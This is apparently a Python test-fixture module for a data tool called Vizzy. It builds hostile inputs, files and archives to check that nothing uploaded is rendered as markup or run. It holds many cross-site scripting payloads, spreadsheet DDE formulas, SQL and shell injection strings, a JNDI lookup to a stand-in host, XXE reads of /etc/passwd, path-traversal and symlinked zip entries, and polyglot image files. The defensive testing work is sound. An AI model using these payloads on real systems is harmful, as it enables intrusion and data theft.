"""Hostile text and hostile files, made by code: what must never become markup, never run, never reach another file.

`TEXTS` stand where people write labels, ids, texts and names of files; none is another one with spaces around it, so
all can be ids at once. `JSON_TEXTS` are what only JSON can hold. `FILES` are whole files, with such texts in every
place there is, or hostile by their form. A text that runs, by whatever way, calls `RUN` or asks for `CANARY`.
"""

import io
import json
import random
import stat
import zipfile

import numpy as np
from bad_files import EMBEDDINGS, GOOD, LABELS, Case, npy, npz, table, text_file, zipped

from vizzy.reading import InputFile

RUN = "hacked(1)"
CANARY = "canary.test"


def _elements():
    """Elements that run something, or load something, as soon as they are in a document."""
    events = "img src=x onerror|svg onload|body onload|details open ontoggle|input autofocus onfocus|video src=x onerror"
    events += "|audio src=x onerror|marquee onstart|select autofocus onfocus|object onerror|style onload|x contenteditable onblur"
    addresses = "iframe src|object data|embed src|a href|form action|button formaction|math href|area href|base href"
    yield from (f"<{start}={RUN}>" for start in events.split("|"))
    yield from (f'<{start}="javascript:{RUN}">x' for start in addresses.split("|"))
    yield from (f"<script{kind}>{RUN}</script>" for kind in ("", " type=module", "/x", "\t", "\n", " defer"))
    python = f"import js; js.{RUN}"
    yield from (f'<script type="{kind}">{python}</script>' for kind in ("py", "mpy"))
    yield from (f"<{kind}-script>{python}</{kind}-script>" for kind in ("py", "mpy"))
    yield from (
        f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;">',
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
        f"<script src=//{CANARY}/a.js></script>",
        f"<link rel=stylesheet href=//{CANARY}/a.css>",
        f"<img src=//{CANARY}/a.png>",
        f'<meta http-equiv=refresh content="0;url=//{CANARY}/">',
        f"<style>@import url(//{CANARY}/b.css);</style>",
        f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        "<plaintext>",
        "<dialog open>",
        "<table><tr><td>",
        "<b>bold",
    )


def _breakouts():
    """The ends of what a text may stand in, and an element after them."""
    ends = ['"', "'", '">', "'>", "-->", "]]>", "`", '\\"', "\\'", "*/", "?>", "%>", "\n\n", "</p></li></td></table>"]
    ends += [f"</{name}>" for name in "title style textarea template noscript script svg select option button a".split()]
    yield from (end + f"<img src=x onerror={RUN}>" for end in ends)
    quotes = ('"', "'", "")
    for event in ("onmouseover", "onfocus", "onclick", "onerror", "onanimationstart", "onpointerenter"):
        yield from (f"x{quote} {event}={quote}{RUN}" for quote in quotes)
    yield from (f"x{quote} style={quote}background:url(//{CANARY}/c.png)" for quote in quotes)
    yield from (f"x{quote} srcdoc={quote}&lt;script&gt;{RUN}" for quote in quotes)


def _disguises():
    """Markup by other spellings, which only what decodes once too often reads as markup."""
    plain = f"<script>{RUN}</script>"
    yield plain.replace("<", "&lt;").replace(">", "&gt;")
    yield "".join(f"&#{ord(letter)};" for letter in plain)
    yield "".join(f"&#x{ord(letter):x}" for letter in plain)
    yield "".join(f"\\u{ord(letter):04x}" for letter in plain)
    yield "".join(f"\\x{ord(letter):02x}" for letter in plain)
    yield "".join(f"%{ord(letter):02X}" for letter in plain)
    yield "".join(f"%25{ord(letter):02X}" for letter in plain)
    yield plain.replace("<", "＜").replace(">", "＞")
    yield plain.replace("<", "+ADw-").replace(">", "+AD4-")
    yield plain.replace("script", "ScRiPt")
    yield plain.replace("script", "scr<script>ipt")
    yield plain.replace("s", "ſ", 1)
    yield plain.replace("<", "<<")
    yield "&lt;&amp;lt;&quot;&apos;&nbsp;"


def _addresses():
    """What runs or leads elsewhere as an address, in a style, or as a path."""
    yield from (f"{scheme}{RUN}" for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:"))
    yield f"data:text/html,<script>parent.{RUN}</script>"
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"
    yield from (f"{start}{CANARY}/d.png" for start in ("//", "https://", "\\\\", "/\\", "ftp://", "ws://", "http:"))
    yield from ("blob:null/x", "about:blank", "file:///etc/passwd", "?dataset=//" + CANARY, "#lab=code")
    style = f"background:url(//{CANARY}/e.png)"
    yield from (f"{end}{style}" for end in ('");', "');", ");", "}*{", "red;", "/**/", "\\22;"))
    yield from (f"expression({RUN})", f"-moz-binding:url(//{CANARY}/x)", "var(--p)", "--p:1;", "/*", "<!--", "<![CDATA[")
    yield from ("../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\x", "\\\\?\\x", "~/.ssh/id", ".", "..", "...", "./.")
    yield from ("%2e%2e%2f", "..%c0%af", "....//", "a/../../b", ".htaccess", "dataset.json", "a\\b/c", "x.csv/", "x::$DATA")
    yield from (f"{device}{end}" for device in ("CON", "NUL", "COM1", "LPT9", "AUX") for end in ("", ".csv"))


def _formulas():
    """Cells that a spreadsheet runs."""
    bodies = (f'HYPERLINK("//{CANARY}","x")', "cmd|' /C calc'!A0", "SUM(1;1)*cmd|'/C calc'!A1")
    yield from (sign + body for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠") for body in bodies)
    yield from ("'=1+1", "''=1+1", "'", "''", "'a", '"=1+1"', "=", "+", "-", "@", "-1", "+1", "-1+1", "%0A=1", "1=1", "=\r=1", "@\tx")
    yield from (f"{space}{sign}9+{number}" for number, space in enumerate("\t\r\n") for sign in "=@")
    yield from ("sep=;", "#REF!", "DDE", "ID", "{=1+1}")


def _injections():
    """What some other program would run."""
    yield from ("'; DROP TABLE t; --", "1 OR 1=1", "; rm -rf ~", "$(touch x)", "`touch x`", "| calc", "&& calc", "-rf", "--help")
    yield from ("{0.__class__}", "{}", "{0}", "{name}", "%s%n", "%(x)s", "$1$&$`", "\\g<0>", "TITLE", "BODY", "{x!r:>{y}}")
    template = f"constructor.constructor('{RUN}')()"
    yield from (open_ + template + close for open_, close in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}")))
    yield from (f"${{jndi:ldap://{CANARY}/a}}", "<?php system('x') ?>", '<!--#exec cmd="x"-->', "!!python/object:os.system")
    yield from ('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', "*)(uid=*", "a\r\nSet-Cookie: b=c", "\\", "\\\\", "\\n")
    yield from ('"},{"label":"x', "]}", '","x":"', "\\u0022", "a,b;c|d\te", 'a"b', '""', '"', "a\nb", "a\rb", "a\r\nb", '",\n"', "\na", "x,")
    names = "__proto__ constructor prototype toString hasOwnProperty valueOf length then innerHTML __class__ __init__ __import__ self"
    yield from names.split()
    yield from "null NaN None true false undefined N/A -inf 1e999 0x10 1_000 ٣ -0 00 1.0 x[object\u00a0Object]".split(" ")


def _letters():
    """Letters that are not what they look like, or are not seen at all."""
    invisible = [*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0x200B, 0x2010), 0xFEFF, 0xAD, 0x2060, 0x34F, 0x3164, 0xE0041]
    yield from (f"invoice{chr(code)}gnp.exe" for code in invisible)
    control = [1, 7, 8, *range(0x0B, 0x0D), 0x1A, *range(0x1B, 0x20), 0x7F, 0x80, 0x85, 0x9B, 0x2028, 0x2029, 0xFFFE, 0xFFFF]
    yield from (f"a{chr(code)}[31mb" for code in control)
    yield from (f"a{chr(code)}b" for code in (0x20, 0xA0, 0x1680, 0x2003, 0x202F, 0x205F, 0x3000, 9))
    yield from ("e\u0301", "é", "Z" + "\u0351\u0316" * 200, "ﷺ" * 50, "👩‍👩‍👧‍👦", "🏳️‍🌈🇩🇪", "\U0010ffff", "ａ", "Ⅷ", "İstanbul", "ß", "שלום<b>", "😀" * 100)
    yield from ("x" * 20_000, "<" * 2_000, "a b " * 1_000 + "end")


TEXTS = tuple(
    {
        text.strip(): text
        for kind in (_elements, _breakouts, _disguises, _addresses, _formulas, _injections, _letters)
        for text in kind()
    }.values()
)
JSON_TEXTS = ("a\0b", "\0", "<scr\0ipt>", "\ud83d", "\ude00x", "a\udc00\ud800b", "\ud83d<b>")


def embedded_rows(n):
    """As many points of two clouds, as text."""
    chance = random.Random(n)
    return [(f"{chance.gauss(4 * (row % 2), 1):.4f}", f"{chance.gauss(0, 1):.4f}") for row in range(n)]


def written(kind, columns, rows):
    """A table in one of `FORMS`, as text."""
    if kind in DELIMITERS:
        return delimited(columns, rows, DELIMITERS[kind])
    objects = [dict(zip(columns, row, strict=True)) for row in rows]
    return json.dumps(objects) if kind == "json" else "".join(json.dumps(entry) + "\n" for entry in objects)


def delimited(columns, rows, delimiter=","):
    """A table with every cell between quotation marks."""
    lines = [delimiter.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in (columns, *rows)]
    return "\n".join(lines) + "\n"


DELIMITERS = {"csv": ",", "tsv": "\t", "semicolons.csv": ";", "bars.csv": "|"}
FORMS = (*DELIMITERS, "json", "jsonl")


N_CLASSES = 24
# Several texts together are each label, in the order of classes; and as many labels that mean no harm.
LABELS_OF_TEXTS = sorted("~".join(TEXTS[start::N_CLASSES])[:400].strip() for start in range(N_CLASSES))
HARMLESS_LABELS = [f"class {label:02d}" for label in range(N_CLASSES)]
HARMLESS_TEXTS = [f"name {row}" for row in range(len(TEXTS))]


def hostile_table(kind):
    """A table in which every text is an id and a text, and several of them together are each label."""
    return whole_table(kind, TEXTS, [*TEXTS[1:], TEXTS[0]], LABELS_OF_TEXTS)


def harmless_table(kind):
    """A table of the same shape, with the same numbers, in which nothing is meant badly."""
    return whole_table(kind, HARMLESS_TEXTS, HARMLESS_TEXTS, HARMLESS_LABELS)


def whole_table(kind, ids, texts, labels):
    cells = zip(ids, texts, embedded_rows(len(ids)), strict=True)
    rows = [(one, text, labels[row % len(labels)], *numbers) for row, (one, text, numbers) in enumerate(cells)]
    return written(kind, ("id", "text", "label", "emb_0", "emb_1"), rows)


# --- files ---------------------------------------------------------------------------------------------


def _placed(kind):
    """Tables of a form with all texts in one place: ids and texts, labels, file names, names of columns."""
    numbers = embedded_rows(2 * len(TEXTS))
    half = numbers[: len(TEXTS)]
    by_place = {
        "ids": (("id", "label", "e0", "e1"), [(text, "ab"[row % 2], *half[row]) for row, text in enumerate(TEXTS)]),
        "texts": (("text", "label", "e0", "e1"), [(text, "ab"[row % 2], *half[row]) for row, text in enumerate(TEXTS)]),
        "labels": (("label", "e0", "e1"), [(TEXTS[row // 2], *numbers[row]) for row in range(2 * len(TEXTS))]),
        "paths": (("file", "label", "e0", "e1"), [(text, "ab"[row % 2], *half[row]) for row, text in enumerate(TEXTS)]),
        "columns": (("label", "e0", "e1", *TEXTS), [("ab"[row % 2], *half[row], *TEXTS) for row in range(6)]),
    }
    for place, (columns, rows) in by_place.items():
        yield Case(f"{place} in {kind}", (text_file(f"data.{kind}", written(kind, columns, rows)),))


def _arrays():
    words = np.array(TEXTS[:8])
    labels = np.array([TEXTS[row % 3] for row in range(8)])
    points = np.array(embedded_rows(8), dtype=float)
    beyond = bytearray(npy(np.array(["ab", "cd"] * 4)))
    beyond[-8:] = (0x7FFFFFFF).to_bytes(4, "little") + (0xD800).to_bytes(4, "little")
    yield "labels in an array", (InputFile("labels.npy", npy(labels)), InputFile("embeddings.npy", npy(points)))
    yield "ids in an npz", (InputFile("a.npz", npz(ids=words, labels=labels, embeddings=points)),)
    yield "keys of an npz", (InputFile("a.npz", npz(**{"../../x": labels, "__proto__": points, "<b>": words})),)
    yield "classes in an npz", (InputFile("a.npz", npz(classes=words[:2], labels=np.arange(8) % 2, embeddings=points)),)
    yield "letters beyond all letters", (InputFile("labels.npy", bytes(beyond)), InputFile("embeddings.npy", npy(points)))
    yield "a record array", (InputFile("a.npy", npy(np.array([("<b>", 1.0)] * 4, dtype=[("label", "U3"), ("e0", float)]))),)


def _link(name, target):
    entry = zipfile.ZipInfo(name)
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return entry, target


def _zips():
    fitting = [text for text in TEXTS if "\0" not in text and len(text) < 200]
    inside = [text for text in fitting if ".." not in text and ":" not in text and not text.startswith(("/", "\\"))]
    paths = ("../data.csv", "a/../../data.csv", "/data.csv", "C:\\data.csv", "..\\data.csv", "a\\..\\..\\data.csv", "\\\\x\\data.csv")
    yield from ((f"a way out: {path}", [(path, GOOD)]) for path in paths)
    yield "pictures by hostile names", [("data.csv", GOOD), *((f"{text}.png", b"x") for text in inside)]
    yield "folders by hostile names", [(f"{inside[0]}/{inside[20]}/data.csv", GOOD)]
    yield "a table without an ending in a folder with one", [("v1.0/data", GOOD)]
    yield "a table by a hostile name", [("</title><img src=x>.csv", GOOD)]
    yield "a name with a zero", [("data.csv\0.png", GOOD)]
    yield "a link", [_link("data.csv", "/etc/passwd")]
    yield "a link beside a table", [("data.csv", GOOD), _link("a.png", "../../etc/passwd")]
    yield "a zip in a zip", [("inner.zip", zipped([("data.csv", GOOD)])), ("data.csv", GOOD)]
    yield "a hundred folders", [("a/" * 100 + "data.csv", GOOD)]
    yield "only clutter", [(".data.csv", GOOD), ("__MACOSX/data.csv", GOOD)]
    yield "names that differ in capitals", [("data.csv", GOOD), ("DATA.CSV", GOOD)]
    yield "a long name", [("x" * 5000 + ".csv", GOOD)]


def _twice_the_same_name():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entries = archive.filelist
        archive.writestr("data.csv", GOOD)
        archive.writestr("data.cs2", GOOD.replace("cat", "<b>"))
        assert len(entries) == 2
    return out.getvalue().replace(b"data.cs2", b"data.csv")


EVIL = f'</script><img src=x onerror={RUN}>"'
FOLDER_TABLE = "id,file,given_label,true_label\n" + "".join(f"{i},{i}.png,{'ab'[i % 2]},\n" for i in range(4))


def _folders():
    """Dataset folders whose dataset.json says strange things."""
    strange = {
        "a name that is markup": {"name": EVIL},
        "a name that is an object": {"name": {"<b>": [1]}},
        "a name that is a number": {"name": 7},
        "classes that are objects": {"classes": [{"a": 1}, ["b"]]},
        "classes that are markup": {"classes": [EVIL, "a", "b"]},
        "classes that are null": {"classes": [None, None]},
        "classes twice": {"classes": ["a", "a", "b"]},
        "prototypes": {"__proto__": {"name": "x"}, "constructor": 1, "thumbnails": {"files": [EVIL]}},
        "half a letter": {"name": "\ud83d", "classes": ["a", "b", "\ud83d"]},
    }
    for title, said in strange.items():
        index = {"format": 1, "name": "folder", "classes": ["a", "b"]} | said
        files = [("dataset.csv", FOLDER_TABLE), ("dataset.json", json.dumps(index)), ("embeddings.npy", npy(EMBEDDINGS))]
        yield f"a dataset folder, {title}", files


SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'
PICTURES = {
    "a.svg": f'<svg {SVG} onload="{RUN}"><script>{RUN}; parent.{RUN}; top.{RUN}</script></svg>'.encode(),
    "b.svg": f'<svg {SVG}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject></svg>'.encode(),
    "c.svg": f'<svg {SVG}><image xlink:href="http://{CANARY}/f.png"/><use href="http://{CANARY}/g.svg#x"/></svg>'.encode(),
    "d.svg": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "http://{CANARY}/h">]><svg {SVG}><text>&x;</text></svg>'.encode(),
    "e.png": f"<!DOCTYPE html><script>{RUN}</script><img src=x onerror={RUN}>".encode(),
    "f.gif": f"GIF89a=1;{RUN};/*".encode() + b"\0" * 20,
    "g.png": b"",
    "h.jpg": b"\xff\xd8\xff\xfe\0\x20*/=" + RUN.encode() + b"/*\xff\xd9",
    "i.bmp": b"BM\xff\xff\xff\xff\0\0\0\0\x36\0\0\0\x28\0\0\0\xff\xff\xff\x7f\xff\xff\xff\x7f\x01\0\x18\0" + b"\0" * 24,
}


def picture_zip():
    """A table and the pictures to it, every one of them hostile."""
    rows = [(name, "ab"[row % 2], *numbers) for row, (name, numbers) in enumerate(zip(PICTURES, embedded_rows(9), strict=True))]
    return zipped([("pictures.csv", delimited(("file", "label", "e0", "e1"), rows)), *PICTURES.items()])


def _by_form():
    rows = "".join(json.dumps({"label": "ab"[i % 2], "e0": i, "e1": -i, "text": text}) + "\n" for i, text in enumerate(JSON_TEXTS))
    same_key = '{"label": "a", "label": "b", "e0": 1, "e1": 2}\n{"label": "a", "e0": 2, "e1": 1}\n'
    exported = "corrected_label,review_action,given_label,suggested_label,label_quality,is_label_issue,is_out_of_distribution"
    done = f'"<b>{EVIL.replace(chr(34), "")}","{RUN}",cat,dog,0.5,True,False'
    yield "zeros and halves of letters", "data.jsonl", rows
    yield "a key twice", "data.jsonl", same_key
    yield "keys of objects", "data.jsonl", same_key.replace('"e1"', '"__proto__"')
    yield "numbers beyond all numbers", "data.jsonl", same_key.replace('"e0": 1', '"e0": 1e999').replace('"e1": 2', '"e1": ' + "9" * 5000)
    yield "no numbers", "data.jsonl", same_key.replace("2", "NaN").replace("1", "-Infinity")
    yield "nested without end", "data.json", '[{"label":' + "[" * 10_000
    yield "nested in objects", "data.json", '[{"label":' + '{"a":' * 10_000
    yield "a separator that is a line's end", "data.csv", "sep=\n" + GOOD
    yield "a separator that is a quotation mark", "data.csv", 'sep="\n' + GOOD
    yield "a separator that is a letter", "data.csv", "sep=a\n" + GOOD
    yield "a separator of zero length", "data.csv", "sep=" + GOOD
    yield "a cell of a megabyte", "data.csv", GOOD + "x" * 1_000_000 + ",cat,0.5,0.5\n"
    yield "a review that says strange things", "data-corrected.csv", table(
        *(f"{row},{done}" for row in ("a,cat,0.9,0.1", "b,dog,0.2,0.8")), header=f"id,label,p_cat,p_dog,{exported}"
    )
    yield "columns that Vizzy adds, by both their names", "data.csv", table(
        *(f"{row},mine,yours" for row in ("a,cat,0.9,0.1", "b,dog,0.2,0.8")),
        header="id,label,p_cat,p_dog,label_quality,vizzy_label_quality",
    )
    yield "a list of strange things for a label", "data.jsonl", same_key.replace('"a"', '["<b>", {"__proto__": 1}]')


def _named():
    """A good table under every kind of name; the browser and the system hand over only the last part of a path."""
    names = [text for text in TEXTS if len(text) < 200]
    for text in names[::9]:
        yield Case(f"a file called {text!r}", (text_file(f"{text}.csv", GOOD),))


FILES = (
    *(case for kind in FORMS for case in _placed(kind)),
    *(Case(title, files) for title, files in _arrays()),
    *(Case(title, (InputFile("data.zip", zipped(entries)),)) for title, entries in (*_zips(), *_folders())),
    Case("a name twice in a zip", (InputFile("data.zip", _twice_the_same_name()),)),
    Case("pictures that are none", (InputFile("pictures.zip", picture_zip()),)),
    *(Case(title, (text_file(name, text),)) for title, name, text in _by_form()),
    Case("markup for a table", (text_file("data.csv", f"<script>{RUN}</script>,label\n" * 3),)),
    Case("markup named as an array", (text_file("labels.csv", LABELS), text_file("e.npy", f"<script>{RUN}</script>"))),
    *_named(),
)
